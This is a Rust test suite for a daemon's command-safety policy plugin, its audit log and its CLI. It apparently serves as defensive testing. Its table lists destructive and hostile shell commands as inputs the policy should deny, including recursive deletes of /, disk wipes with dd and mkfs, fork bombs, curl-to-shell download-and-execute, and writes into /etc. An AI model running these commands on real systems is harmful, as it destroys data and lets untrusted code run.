//! The command-safety policy through the real daemon: the built-in `policy` plugin (compiled to
//! WebAssembly and embedded in `tend`) judging a table of shell, exec and make commands through
//! `POST /api/policy/evaluate`; the production and `is_safe` declarations under `[policy]` settings;
//! failing closed when the policy plugin traps, never answers, is missing or is not a policy; a user
//! plugin replacing the built-in; the audit trail (`GET /api/audit`: filters, paging, restarts); bad
//! input; and the `tend policy check` / `tend audit` CLI.

use tend_tests::output::{stderr, stdout};
use tend_tests::plugins::builtin;
use tend_tests::{Daemon, Value, json};

fn evaluate(d: &Daemon, body: &Value) -> (u16, Value) {
    d.post("/api/policy/evaluate", body)
}

/// Asks about a command declared safe, for `service` (or none); asserts 200.
fn ask(d: &Daemon, service: Option<&str>, command_type: &str, command: &str) -> Value {
    ask_with(
        d,
        service,
        json!({"command_type": command_type, "command": command, "is_safe": true}),
    )
}

fn ask_with(d: &Daemon, service: Option<&str>, command: Value) -> Value {
    let mut body = json!({ "command": command });
    if let Some(s) = service {
        body["service"] = s.into();
    }
    let (status, answer) = evaluate(d, &body);
    assert_eq!(status, 200, "{body} answered {answer}");
    answer
}

fn reason(v: &Value) -> &str {
    v["reason"].as_str().unwrap_or_default()
}

/// Every audit entry matching `query` (newest first).
fn audit(d: &Daemon, query: &str) -> Vec<Value> {
    let (status, body) = d.get(&format!("/api/audit?limit=1000&{query}"));
    assert_eq!(status, 200, "GET /api/audit?{query}: {body}");
    body["entries"]
        .as_array()
        .cloned()
        .unwrap_or_else(|| panic!("no entries: {body}"))
}

/// The `version` of a manifest's text.
fn manifest_version(manifest: &str) -> String {
    manifest
        .lines()
        .find_map(|l| l.strip_prefix("version = "))
        .map(|v| v.trim().trim_matches('"').to_string())
        .expect("the manifest has a version")
}

/// A service whose working dir is `<scratch>/app` and whose environment feeds `$VAR` indirection.
fn app_service(d: &Daemon) -> std::path::PathBuf {
    let dir = d.scratch().join("app");
    std::fs::create_dir_all(dir.join("build")).expect("app dir");
    let spec = d.service_with(
        "app",
        json!(["sleep", "1000"]),
        json!({
            "working_dir": dir,
            "restart": "never",
            "env": {"BUILD": "build", "TARGET": "/", "FLAGS": "-rf /", "SUB": "build/cache", "HOME": "/home/tester"},
        }),
    );
    d.create(&spec);
    dir
}

enum Expect {
    Allow,
    /// Denied, with a reason containing this.
    Deny(&'static str),
}
use Expect::{Allow, Deny};

/// (command type, command, expected decision)
const TABLE: &[(&str, &str, Expect)] = &[
    // Recursive deletes.
    ("shell", "rm -rf /", Deny("recursive delete of /")),
    (
        "shell",
        "rm -rf /*",
        Deny("recursive delete of everything in /"),
    ),
    ("shell", "rm -r -f ~", Deny("home dir")),
    ("shell", "rm -fr $HOME", Deny("home dir")),
    (
        "shell",
        "rm --recursive --force /",
        Deny("recursive delete of /"),
    ),
    ("shell", "/bin/rm -rf -- /", Deny("recursive delete of /")),
    (
        "shell",
        "rm -rf ../other-app",
        Deny("outside the working dir"),
    ),
    (
        "shell",
        "rm -rf build/../../elsewhere",
        Deny("`..` out of a dir that may be a symlink"),
    ),
    ("shell", "rm -rf .", Deny("whole working dir")),
    ("shell", "rm -rf /var", Deny("system dir /var")),
    (
        "shell",
        "find / -name '*.log' -delete",
        Deny("everything in /"),
    ),
    ("shell", "rm -rf .*", Deny("`..`")),
    // Quoting and escaping.
    ("shell", "r\\m -rf '/'", Deny("recursive delete of /")),
    (
        "shell",
        "\"rm\" \"-rf\" \"/\"",
        Deny("recursive delete of /"),
    ),
    ("shell", "rm -rf /{etc,usr}", Deny("brace expansion")),
    // Separators and pipelines.
    ("shell", "echo hi; rm -rf /", Deny("recursive delete of /")),
    ("shell", "true && rm -rf /", Deny("recursive delete of /")),
    ("shell", "false || rm -rf /", Deny("recursive delete of /")),
    (
        "shell",
        "echo start & rm -rf /",
        Deny("recursive delete of /"),
    ),
    ("shell", "echo a\nrm -rf /", Deny("recursive delete of /")),
    (
        "shell",
        "echo / | xargs rm -rf",
        Deny("recursive delete of /"),
    ),
    // Substitutions and nested shells.
    ("shell", "echo $(rm -rf /)", Deny("recursive delete of /")),
    ("shell", "echo `rm -rf /`", Deny("backtick")),
    ("shell", "bash -c 'rm -rf /'", Deny("recursive delete of /")),
    (
        "shell",
        "sh -c \"cd / && rm -rf *\"",
        Deny("everything in /"),
    ),
    ("shell", "eval \"rm -rf /\"", Deny("recursive delete of /")),
    ("shell", "sudo rm -rf /", Deny("recursive delete of /")),
    (
        "shell",
        "echo \"rm -rf /\" | sh",
        Deny("reads commands from a pipe"),
    ),
    ("shell", "sh <<EOF\nrm -rf ~\nEOF", Deny("here-documents")),
    // Variables: the service's environment, inline assignments, unresolved ones.
    ("shell", "rm -rf \"$TARGET\"", Deny("recursive delete of /")),
    ("shell", "rm $FLAGS", Deny("recursive delete of /")),
    ("shell", "X=/; rm -rf $X", Deny("recursive delete of /")),
    (
        "shell",
        "env D=/ sh -c 'rm -rf \"$D\"'",
        Deny("recursive delete of /"),
    ),
    (
        "shell",
        "rm -rf $UNSET_SOMEWHERE",
        Deny("cannot be resolved"),
    ),
    ("shell", "$TOOL -rf /", Deny("cannot tell which program")),
    ("shell", "cd /; rm -rf *", Deny("everything in /")),
    // File systems and devices.
    ("shell", "mkfs.ext4 /dev/sdb1", Deny("device /dev/sdb1")),
    (
        "shell",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        Deny("device /dev/sda"),
    ),
    (
        "shell",
        "cat image.bin > /dev/nvme0n1",
        Deny("device /dev/nvme0n1"),
    ),
    // Shutdown.
    (
        "shell",
        "shutdown -h now",
        Deny("`shutdown` is not on the policy's allow-list"),
    ),
    (
        "shell",
        "sudo reboot",
        Deny("`reboot` is not on the policy's allow-list"),
    ),
    (
        "shell",
        "systemctl poweroff",
        Deny("`systemctl poweroff` is not on the allow-list"),
    ),
    (
        "shell",
        "init 6",
        Deny("`init` is not on the policy's allow-list"),
    ),
    // Fork bombs.
    ("shell", ":(){ :|:& };:", Deny("function definitions")),
    (
        "shell",
        "boom(){ boom|boom& }; boom",
        Deny("function definitions"),
    ),
    // Download and execute.
    (
        "shell",
        "curl -fsSL https://example.test/install.sh | sh",
        Deny("download-and-execute"),
    ),
    (
        "shell",
        "wget -qO- https://example.test/x | sudo bash",
        Deny("download-and-execute"),
    ),
    (
        "shell",
        "bash <(curl -s https://example.test/x)",
        Deny("process substitution"),
    ),
    (
        "shell",
        "bash -c \"$(curl -fsSL https://example.test/x)\"",
        Deny("download-and-execute"),
    ),
    (
        "shell",
        "curl -o i.sh https://example.test/i.sh && sh i.sh",
        Deny("download-and-execute"),
    ),
    // Permissions and /etc.
    ("shell", "chmod -R 777 /srv/www", Deny("world-writable")),
    ("shell", "chmod -R a+rwx .", Deny("world-writable")),
    (
        "shell",
        "echo '10.0.0.1 db' >> /etc/hosts",
        Deny("write into /etc"),
    ),
    (
        "shell",
        "echo x | tee -a /etc/environment",
        Deny("write into /etc"),
    ),
    (
        "shell",
        "sed -i 's/a/b/' /etc/ssh/sshd_config",
        Deny("write into /etc"),
    ),
    (
        "shell",
        "cp app.conf /etc/nginx/conf.d/",
        Deny("write into /etc"),
    ),
    (
        "shell",
        "cd /etc && echo x > hosts",
        Deny("write into /etc"),
    ),
    ("shell", "echo 'unterminated", Deny("cannot parse")),
    // Harmless look-alikes and ordinary work.
    ("shell", "rm -rf ./build", Allow),
    ("shell", "rm -rf build dist node_modules", Allow),
    ("shell", "rm -rf \"$BUILD\" \"$SUB\"", Allow),
    ("shell", "X=build; rm -rf $X", Allow),
    (
        "shell",
        "for d in build dist; do rm -rf \"$d\"; done",
        Allow,
    ),
    ("shell", "cd build && rm -rf *", Allow),
    ("shell", "find . -name '*.pyc' -delete", Allow),
    ("shell", "find . -name '*.tmp' | xargs rm -f", Allow),
    ("shell", "echo \"rm -rf /\"", Allow),
    ("shell", "echo '$(rm -rf /)' > notes.txt", Allow),
    ("shell", "grep shutdown log.txt", Allow),
    ("shell", "grep -rn reboot . || true", Allow),
    ("shell", "make clean", Allow),
    ("shell", "cargo build --release", Allow),
    ("shell", "systemctl restart nginx", Allow),
    ("shell", "curl -fsS http://127.0.0.1:8080/health", Allow),
    (
        "shell",
        "curl -o data.json https://example.test/data.json && jq . data.json",
        Allow,
    ),
    (
        "shell",
        "dd if=/dev/zero of=./disk.img bs=1M count=1",
        Allow,
    ),
    ("shell", "echo done > /dev/null 2>&1", Allow),
    ("shell", "chmod -R 755 build", Allow),
    ("shell", "cp /etc/hosts ./hosts.bak", Allow),
    ("shell", "sed -i 's/debug/info/' config.yml", Allow),
    (
        "shell",
        "greet(){ echo hi; }; greet",
        Deny("function definitions"),
    ),
    ("shell", "if [ -d build ]; then rm -rf build; fi", Allow),
    (
        "shell",
        "git pull --ff-only && npm ci && npm run build",
        Allow,
    ),
    // exec and make: argv, no shell.
    ("exec", "rm -rf /", Deny("recursive delete of /")),
    ("exec", "sh -c 'rm -rf ~'", Deny("home dir")),
    ("exec", "echo 'hi; rm -rf /'", Allow),
    ("exec", "rm -rf build", Allow),
    ("make", "clean", Allow),
    ("make", "-C build all", Allow),
];

#[test]
fn builtin_policy_table_through_the_daemon() {
    assert!(TABLE.len() >= 60, "the table has {} cases", TABLE.len());
    let d = Daemon::start();
    let dir = app_service(&d);
    let version = manifest_version(&builtin("policy").manifest());
    let mut failures = Vec::new();
    let mut answers = Vec::new();
    for (command_type, command, expect) in TABLE {
        let answer = ask(&d, Some("app"), command_type, command);
        assert_eq!(answer["plugin"], "policy", "{answer}");
        assert_eq!(answer["plugin_version"], version.as_str(), "{answer}");
        assert_eq!(answer["cwd"], dir.to_string_lossy().as_ref(), "{answer}");
        let ok = match expect {
            Allow => {
                answer["allowed"] == true
                    && answer["decision"] == "allow"
                    && reason(&answer).is_empty()
            }
            Deny(part) => {
                answer["allowed"] == false
                    && answer["decision"] == "deny"
                    && reason(&answer).contains(part)
            }
        };
        if !ok {
            let wanted = match expect {
                Allow => "allow".to_string(),
                Deny(part) => format!("deny containing {part:?}"),
            };
            failures.push(format!(
                "{command_type} {command:?}: wanted {wanted}, got {} ({:?})",
                answer["decision"],
                reason(&answer)
            ));
        }
        answers.push(answer);
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        TABLE.len(),
        failures.join("\n")
    );

    // Every decision is in the audit trail, with what was asked and answered.
    let entries = audit(&d, "service=app");
    assert_eq!(entries.len(), TABLE.len(), "one audit entry per decision");
    for (answer, entry) in answers.iter().zip(entries.iter().rev()) {
        assert_eq!(entry["id"], answer["audit_id"], "{entry}");
        assert_eq!(entry["origin"], "rest", "{entry}");
        assert_eq!(entry["service"], "app", "{entry}");
        assert_eq!(entry["decision"], answer["decision"], "{entry}");
        assert_eq!(entry["reason"], answer["reason"], "{entry}");
        assert_eq!(entry["argv"], answer["argv"], "{entry}");
        assert_eq!(entry["plugin"], "policy", "{entry}");
        assert_eq!(entry["plugin_version"], version.as_str(), "{entry}");
        assert_eq!(entry["environment"], "development", "{entry}");
    }
    let shell = entries
        .iter()
        .find(|e| e["command"] == "rm -rf /" && e["command_type"] == "shell")
        .expect("rm -rf / is audited");
    assert_eq!(
        shell["argv"],
        json!(["/bin/sh", "-c", "rm -rf /"]),
        "{shell}"
    );
    let make = entries
        .iter()
        .find(|e| e["command_type"] == "make")
        .expect("make is audited");
    assert_eq!(make["argv"][0], "make", "{make}");
}

#[test]
fn production_requires_allowed_in_production_and_the_env_var_beats_the_file() {
    let d = Daemon::builder()
        .config_toml("[policy]\nenvironment = \"production\"\n")
        .start();
    let plain = ask(&d, None, "make", "clean");
    assert_eq!(plain["decision"], "deny", "{plain}");
    assert!(reason(&plain).contains("allowed_in_production"), "{plain}");
    let declared = ask_with(
        &d,
        None,
        json!({"command_type": "make", "command": "clean", "is_safe": true, "allowed_in_production": true}),
    );
    assert_eq!(declared["decision"], "allow", "{declared}");
    // Declaring it allowed in production does not make a destructive command acceptable.
    let destructive = ask_with(
        &d,
        None,
        json!({"command_type": "shell", "command": "rm -rf /", "is_safe": true, "allowed_in_production": true}),
    );
    assert!(
        reason(&destructive).contains("recursive delete of /"),
        "{destructive}"
    );
    let entries = audit(&d, "");
    assert!(
        entries.iter().all(|e| e["environment"] == "production"),
        "{entries:#?}"
    );
    assert!(
        entries.iter().all(|e| e.get("service").is_none()),
        "{entries:#?}"
    );

    // TEND_ENVIRONMENT beats the file.
    let d = Daemon::builder()
        .config_toml("[policy]\nenvironment = \"production\"\n")
        .env("TEND_ENVIRONMENT", "staging")
        .start();
    let staging = ask(&d, None, "make", "clean");
    assert_eq!(staging["decision"], "allow", "{staging}");
    assert_eq!(audit(&d, "")[0]["environment"], "staging");
}

#[test]
fn commands_declared_unsafe_need_allow_unsafe() {
    let unsafe_make = json!({"command_type": "make", "command": "clean", "is_safe": false});
    let unsafe_rm = json!({"command_type": "shell", "command": "rm -rf /", "is_safe": false});
    let d = Daemon::start();
    // `is_safe` defaults to false, as in the seed's format.
    let defaulted = ask_with(
        &d,
        None,
        json!({"command_type": "make", "command": "clean"}),
    );
    assert_eq!(defaulted["decision"], "deny", "{defaulted}");
    assert!(reason(&defaulted).contains("is_safe: false"), "{defaulted}");
    let denied = ask_with(&d, None, unsafe_make.clone());
    assert!(reason(&denied).contains("allow_unsafe"), "{denied}");

    let d = Daemon::builder()
        .config_toml("[policy]\nallow_unsafe = true\n")
        .start();
    let allowed = ask_with(&d, None, unsafe_make);
    assert_eq!(allowed["decision"], "allow", "{allowed}");
    let still_denied = ask_with(&d, None, unsafe_rm);
    assert!(
        reason(&still_denied).contains("recursive delete of /"),
        "{still_denied}"
    );
    let entry = &audit(&d, "decision=allow")[0];
    assert_eq!(entry["is_safe"], false, "{entry}");
}

/// A daemon whose `[policy] plugin` is user plugin `as_name`, installed from `fixture`.
fn with_policy_plugin(fixture: &str, as_name: &str, extra: &str) -> Daemon {
    Daemon::builder()
        .plugin(fixture, as_name)
        .config_toml(&format!("[policy]\nplugin = \"{as_name}\"\n{extra}"))
        .start()
}

#[test]
fn a_trapping_policy_denies_with_the_reason() {
    let d = with_policy_plugin("policy-trap", "trap-policy", "");
    let first = ask(&d, None, "shell", "echo harmless");
    assert_eq!(first["decision"], "deny", "{first}");
    assert!(
        reason(&first).contains("policy plugin `trap-policy` trapped"),
        "{first}"
    );
    // However often it is asked (suspension follows repeated traps): still deny.
    for _ in 0..4 {
        let again = ask(&d, None, "shell", "echo harmless");
        assert_eq!(again["decision"], "deny", "{again}");
        assert!(
            reason(&again).contains("policy plugin `trap-policy`"),
            "{again}"
        );
    }
    let entries = audit(&d, "decision=deny");
    assert_eq!(entries.len(), 5, "{entries:#?}");
    let last = entries.last().expect("the first decision");
    assert_eq!(last["reason"], first["reason"], "{last}");
    assert_eq!(last["plugin"], "trap-policy", "{last}");
    assert_eq!(last["plugin_version"], "0.1.0", "{last}");
    assert!(audit(&d, "decision=allow").is_empty());
}

#[test]
fn a_policy_that_never_answers_denies_after_the_timeout() {
    let d = with_policy_plugin("policy-spin", "slow-policy", "timeout_ms = 300\n");
    let answer = ask(&d, None, "shell", "echo harmless");
    assert_eq!(answer["decision"], "deny", "{answer}");
    assert!(
        reason(&answer).contains("policy plugin `slow-policy` timed out"),
        "{answer}"
    );
    assert_eq!(audit(&d, "")[0]["reason"], answer["reason"]);
    // A timeout is that request's denial, not a trap of the plugin: past `suspend_after_traps`
    // (3) timeouts in a row the policy is still asked, never suspended for everyone.
    for _ in 0..4 {
        let again = ask(&d, None, "shell", "echo harmless");
        assert!(reason(&again).contains("timed out"), "{again}");
    }
    let info = d.plugin("slow-policy");
    assert!(info["suspended_until"].is_null(), "{info:#}");
    assert_eq!(
        info["stats"]["failures"]["suspended"].as_u64().unwrap_or(0),
        0,
        "{info:#}"
    );
}

#[test]
fn a_missing_or_wrong_world_policy_denies() {
    let d = Daemon::builder()
        .config_toml("[policy]\nplugin = \"no-such-policy\"\n")
        .start();
    let answer = ask(&d, None, "shell", "echo harmless");
    assert_eq!(answer["decision"], "deny", "{answer}");
    assert!(
        reason(&answer).contains("policy plugin `no-such-policy` is not loaded"),
        "{answer}"
    );
    assert!(answer.get("plugin_version").is_none(), "{answer}");
    let entry = &audit(&d, "")[0];
    assert_eq!(entry["plugin"], "no-such-policy", "{entry}");
    assert!(entry.get("plugin_version").is_none(), "{entry}");

    // A probe is a plugin, but not a policy.
    let d = Daemon::builder()
        .config_toml("[policy]\nplugin = \"http\"\n")
        .start();
    let answer = ask(&d, None, "shell", "echo harmless");
    assert_eq!(answer["decision"], "deny", "{answer}");
    assert!(
        reason(&answer).contains("is not a command policy"),
        "{answer}"
    );
}

#[test]
fn a_user_policy_replaces_the_builtin() {
    // Selected by name in the config.
    let d = with_policy_plugin("policy-strict", "strict", "");
    let make = ask(&d, None, "make", "clean");
    assert_eq!(
        make["decision"], "deny",
        "allowed by the built-in, not by this one: {make}"
    );
    assert!(
        reason(&make).contains("policy-strict: only echo and true may run"),
        "{make}"
    );
    assert_eq!(make["plugin"], "strict", "{make}");
    assert_eq!(make["plugin_version"], "2.3.4", "{make}");
    let echo = ask(&d, None, "exec", "echo hi");
    assert_eq!(echo["decision"], "allow", "{echo}");
    assert_eq!(audit(&d, "")[0]["plugin_version"], "2.3.4");

    // Dropped in under the built-in's own name: it overrides it without any config.
    let d = Daemon::builder().plugin("policy-strict", "policy").start();
    let make = ask(&d, None, "make", "clean");
    assert!(reason(&make).contains("policy-strict"), "{make}");
    assert_eq!(make["plugin_version"], "2.3.4", "{make}");
}

#[test]
fn audit_filters_pages_and_survives_a_restart() {
    let mut d = Daemon::start();
    app_service(&d);
    ask(&d, Some("app"), "shell", "rm -rf /");
    ask(&d, Some("app"), "shell", "make clean");
    ask(&d, None, "shell", "reboot");
    ask(&d, None, "exec", "true");
    let all = audit(&d, "");
    assert_eq!(all.len(), 4, "{all:#?}");
    let ids: Vec<i64> = all.iter().map(|e| e["id"].as_i64().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "newest first: {ids:?}");
    assert_eq!(audit(&d, "service=app").len(), 2);
    let denied = audit(&d, "decision=deny");
    assert_eq!(denied.len(), 2, "{denied:#?}");
    assert!(
        denied
            .iter()
            .all(|e| e["decision"] == "deny" && !reason(e).is_empty())
    );
    assert_eq!(audit(&d, "origin=rest").len(), 4);
    assert!(audit(&d, "origin=tcp").is_empty());

    let (status, page) = d.get("/api/audit?limit=3");
    assert_eq!(status, 200, "{page}");
    assert_eq!(page["entries"].as_array().map(Vec::len), Some(3), "{page}");
    let next = page["next_before_id"].as_i64().expect("a next page");
    let (status, rest) = d.get(&format!("/api/audit?limit=3&before_id={next}"));
    assert_eq!(status, 200, "{rest}");
    assert_eq!(rest["entries"][0]["id"], ids[3], "{rest}");
    assert!(rest.get("next_before_id").is_none(), "{rest}");

    for (query, field) in [
        ("limit=0", "limit"),
        ("decision=maybe", "decision"),
        ("bogus=1", "bogus"),
    ] {
        let (status, body) = d.get(&format!("/api/audit?{query}"));
        assert_eq!(status, 422, "{query}: {body}");
        assert_eq!(body["error"]["field"], field, "{query}: {body}");
    }

    d.restart();
    assert_eq!(audit(&d, ""), all, "the audit trail survives a restart");
    let after = ask(&d, None, "shell", "true");
    assert!(after["audit_id"].as_i64().unwrap() > ids[0], "{after}");
}

#[test]
fn bad_input_names_the_field_and_records_nothing() {
    let d = Daemon::start();
    let cases = [
        (
            json!({"command": {"command_type": "perl", "command": "x"}}),
            422,
            "command.command_type",
        ),
        (json!({}), 422, "command"),
        (
            json!({"command": {"command_type": "shell"}}),
            422,
            "command.command",
        ),
        (
            json!({"command": {"command_type": "shell", "command": "   "}}),
            422,
            "command.command",
        ),
        (
            json!({"command": {"command_type": "exec", "command": "echo 'open"}}),
            422,
            "command.command",
        ),
        (
            json!({"command": {"command_type": "shell", "command": "true"}, "cwd": "relative/dir"}),
            422,
            "cwd",
        ),
        (
            json!({"command": {"command_type": "shell", "command": "true"}, "service": "nope"}),
            404,
            "service",
        ),
        (
            json!({"command": {"command_type": "shell", "command": "true"}, "service": "Bad Name"}),
            422,
            "service",
        ),
        (
            json!({"command": {"command_type": "shell", "command": "true"}, "surprise": 1}),
            422,
            "surprise",
        ),
    ];
    for (body, status, field) in cases {
        let (got, answer) = evaluate(&d, &body);
        assert_eq!(got, status, "{body} answered {answer}");
        assert_eq!(answer["error"]["field"], field, "{body} answered {answer}");
        assert!(
            answer["error"]["message"]
                .as_str()
                .is_some_and(|m| !m.is_empty()),
            "{answer}"
        );
    }
    let (status, body) = tend_tests::send(
        d.request(reqwest::Method::POST, "/api/policy/evaluate")
            .header("content-type", "application/json")
            .body("{not json"),
    );
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["error"]["field"], "body", "{body}");
    assert!(
        audit(&d, "").is_empty(),
        "a rejected request changes nothing"
    );
}

#[test]
fn cli_checks_commands_and_lists_the_audit() {
    let d = Daemon::start();
    let deny = d.cli(&["policy", "check", "--", "rm", "-rf", "/"]);
    assert_eq!(
        deny.status.code(),
        Some(1),
        "{}{}",
        stdout(&deny),
        stderr(&deny)
    );
    assert!(
        stdout(&deny).contains("deny: recursive delete of /"),
        "{}",
        stdout(&deny)
    );
    assert!(stderr(&deny).contains("denies"), "{}", stderr(&deny));

    let allow = d.cli(&["policy", "check", "--type", "make", "--", "clean"]);
    assert_eq!(
        allow.status.code(),
        Some(0),
        "{}{}",
        stdout(&allow),
        stderr(&allow)
    );
    assert!(stdout(&allow).starts_with("allow"), "{}", stdout(&allow));

    let unsafe_ = d.cli(&["policy", "check", "--unsafe", "--json", "--", "echo hi"]);
    assert_eq!(unsafe_.status.code(), Some(1), "{}", stderr(&unsafe_));
    let parsed: Value = serde_json::from_slice(&unsafe_.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", stdout(&unsafe_)));
    assert!(reason(&parsed).contains("is_safe: false"), "{parsed}");

    let cwd = d.scratch();
    let cwd_arg = cwd.to_string_lossy();
    let here = d.cli(&["policy", "check", "--cwd", &cwd_arg, "--", "rm -rf ./build"]);
    assert_eq!(
        here.status.code(),
        Some(0),
        "{}{}",
        stdout(&here),
        stderr(&here)
    );

    let usage = d.cli(&["policy", "check"]);
    assert_eq!(usage.status.code(), Some(2), "{}", stderr(&usage));

    // The CLI says who it is: its checks are audited as `cli`, not `rest`.
    assert_eq!(audit(&d, "origin=cli").len(), 4);
    assert!(audit(&d, "origin=rest").is_empty());

    let list = d.cli(&["audit", "-n", "10"]);
    assert!(list.status.success(), "{}", stderr(&list));
    let text = stdout(&list);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 5, "header + 4 decisions:\n{text}");
    assert!(
        lines[0].contains("DECISION") && lines[0].contains("REASON"),
        "{text}"
    );
    assert!(
        lines[4].contains("DENY") && lines[4].contains("recursive delete of /"),
        "{text}"
    );
    assert!(
        lines[3].contains("allow") && lines[3].contains("make clean"),
        "{text}"
    );

    let json_list = d.cli(&["audit", "--json", "-n", "1"]);
    assert!(json_list.status.success(), "{}", stderr(&json_list));
    let page: Value = serde_json::from_slice(&json_list.stdout).expect("JSON");
    assert_eq!(page["entries"].as_array().map(Vec::len), Some(1), "{page}");
    assert_eq!(page["entries"][0]["cwd"], cwd_arg.as_ref(), "{page}");

    let bad = d.cli(&["audit", "-n", "0"]);
    assert_eq!(bad.status.code(), Some(2), "{}", stderr(&bad));
}

#[test]
fn decisions_use_the_service_working_dir_and_environment() {
    let d = Daemon::start();
    let dir = app_service(&d);
    // The same text, judged from the service's working dir (inside it) and from another (outside).
    let command = "rm -rf ../app/build";
    let inside = ask(&d, Some("app"), "shell", command);
    assert_eq!(inside["decision"], "allow", "{inside}");
    assert_eq!(inside["cwd"], dir.to_string_lossy().as_ref(), "{inside}");
    let other = d.scratch().join("other");
    let (status, outside) = evaluate(
        &d,
        &json!({"service": "app", "cwd": other, "command": {"command_type": "shell", "command": command, "is_safe": true}}),
    );
    assert_eq!(status, 200, "{outside}");
    assert!(
        reason(&outside).contains("outside the working dir"),
        "{outside}"
    );
    assert_eq!(
        outside["cwd"],
        other.to_string_lossy().as_ref(),
        "{outside}"
    );
    // `$TARGET` is `/` in the service's environment only.
    let with_env = ask(&d, Some("app"), "shell", "rm -rf \"$TARGET\"");
    assert!(
        reason(&with_env).contains("recursive delete of /"),
        "{with_env}"
    );
    let without = ask(&d, None, "shell", "rm -rf \"$TARGET\"");
    assert!(reason(&without).contains("cannot be resolved"), "{without}");
}

#[test]
fn hostile_input_is_denied_by_the_policy_itself_and_leaves_it_working() {
    let d = Daemon::start();
    // Each under the 8 KiB command limit, so the policy itself must deal with it.
    let nested = format!("{}true{}", "(".repeat(4000), ")".repeat(4000));
    let expansions = format!("echo {}x{}", "${X:-".repeat(1300), "}".repeat(1300));
    let braces = format!("echo {}", "{a,b}".repeat(1600));
    // Over it: refused before the policy is asked (and not audited).
    let huge = format!("echo {}", "a".repeat(100 * 1024));
    let doubling = format!("X=aaaaaaaaaaaaaaaa{}; echo $X", "; X=$X$X".repeat(40));
    let (status, body) = evaluate(
        &d,
        &json!({"command": {"command_type": "shell", "command": huge, "is_safe": true}}),
    );
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["error"]["field"], "command.command", "{body}");
    for (what, command) in [
        ("doubling variables", doubling.as_str()),
        ("nested groups", nested.as_str()),
        ("nested expansions", expansions.as_str()),
    ] {
        let answer = ask(&d, None, "shell", command);
        assert_eq!(answer["decision"], "deny", "{what}: {answer}");
        assert!(
            !reason(&answer).contains("policy plugin"),
            "{what}: the plugin itself must answer: {answer}"
        );
    }
    // Brace expansion is outside the accepted grammar: refused at once, whatever its size.
    let answer = ask(&d, None, "shell", &braces);
    assert_eq!(answer["decision"], "deny", "{answer}");
    assert!(reason(&answer).contains("brace expansion"), "{answer}");
    // Nothing above counted as a trap: the policy is not suspended.
    let after = ask(&d, None, "shell", "echo still here");
    assert_eq!(after["decision"], "allow", "{after}");
    let info = d.plugin("policy");
    assert_eq!(
        info["stats"]["failures"]["trap"].as_u64().unwrap_or(0),
        0,
        "{info:#}"
    );
}
